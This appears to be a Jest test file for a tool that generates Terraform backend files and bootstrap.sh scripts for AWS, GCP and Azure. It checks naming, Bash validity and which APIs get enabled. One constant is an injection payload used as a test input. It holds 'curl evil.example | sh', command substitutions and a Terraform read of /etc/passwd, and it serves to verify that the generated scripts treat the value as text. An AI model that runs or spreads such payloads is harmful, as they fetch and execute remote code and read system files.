import { execFileSync, spawnSync } from 'node:child_process';
import { generate } from './generation';
import { builtInClouds, loadClouds } from './loader';
import { CloudPlugin } from './model';

const HOSTILE = '"; curl evil.example | sh; $(id) `id` ${file("/etc/passwd")} %{ if true }';

const PROJECTS: Record<string, string> = {
  aws: '111122223333',
  gcp: 'acme-shop-dev',
  azure: '2f1c0a5e-7c0b-4f6e-9d3a-0123456789ab',
};

describe('what the templates of the providers give', () => {
  let plugins: CloudPlugin[];
  beforeAll(async () => {
    ({ plugins } = await loadClouds([builtInClouds()]));
  });
  const pluginOf = (id: string) => plugins.find(plugin => plugin.id === id)!;

  function filesOf(id: string, projectId = PROJECTS[id]) {
    const { files, diagnostics } = generate(pluginOf(id), {
      projectName: 'shop',
      projectId,
      environment: 'dev',
      capabilities: ['storage', 'compute', 'messaging'],
    });
    expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
    return files;
  }

  it.each([
    ['aws', 'bucket', 'bucket', /^shop-terraform-state-111122223333$/],
    ['gcp', 'bucket', 'bucket', /^acme-shop-dev-terraform-state$/],
    ['azure', 'resource_group_name', 'state_group', /^shop-terraform-state$/],
    ['azure', 'storage_account_name', 'account', /^tfstate[0-9a-f]{16}$/],
  ])('keeps the state of %s in the %s that bootstrap.sh makes', (id, argument, variable, form) => {
    const { 'backend.tf': backend, 'bootstrap.sh': script } = filesOf(id);
    const place = new RegExp(`^ *${argument} += "(.*)"$`, 'm').exec(backend)?.[1];
    expect(place).toMatch(form);
    expect(script).toMatch(new RegExp(`^${variable}='?${place}'?$`, 'm'));
  });

  it.each(['aws', 'gcp', 'azure'])('is a script for %s that Bash can read', id => {
    const script = filesOf(id)['bootstrap.sh'];
    expect(() => execFileSync('bash', ['-n'], { input: script })).not.toThrow();
    expect(script).toMatch(/^#!\/usr\/bin\/env bash\n/);
    expect(script).toContain('set -euo pipefail');
  });

  it.each([
    ['gcp', ['storage.googleapis.com', 'run.googleapis.com', 'pubsub.googleapis.com'], 'sqladmin'],
    ['azure', ['Microsoft.Storage', 'Microsoft.App', 'Microsoft.ServiceBus'], 'DBforPostgreSQL'],
  ])('turns on for %s what is needed, and nothing else', (id, needed, unneeded) => {
    const script = filesOf(id)['bootstrap.sh'];
    for (const api of needed) expect(script).toContain(`  ${api}\n`);
    expect(script).not.toContain(unneeded);
  });

  it.each(['aws', 'gcp', 'azure'])('takes a hostile account of %s for text', id => {
    const files = filesOf(id, HOSTILE);
    // The script stops where the command line of the cloud is missing; until then it only sets values.
    const { stderr, stdout, status } = spawnSync('/bin/bash', ['-s'], {
      input: files['bootstrap.sh'],
      env: { PATH: '/nonexistent' },
      encoding: 'utf8',
    });
    expect([status, stdout]).toEqual([1, '']);
    expect(stderr).toMatch(/command line is missing/);
    expect(stderr).not.toMatch(/command not found|uid=/);
    expect(files['terraform.tfvars']).not.toMatch(/[^$]\$\{file|[^%]%\{ if/);
  });
});
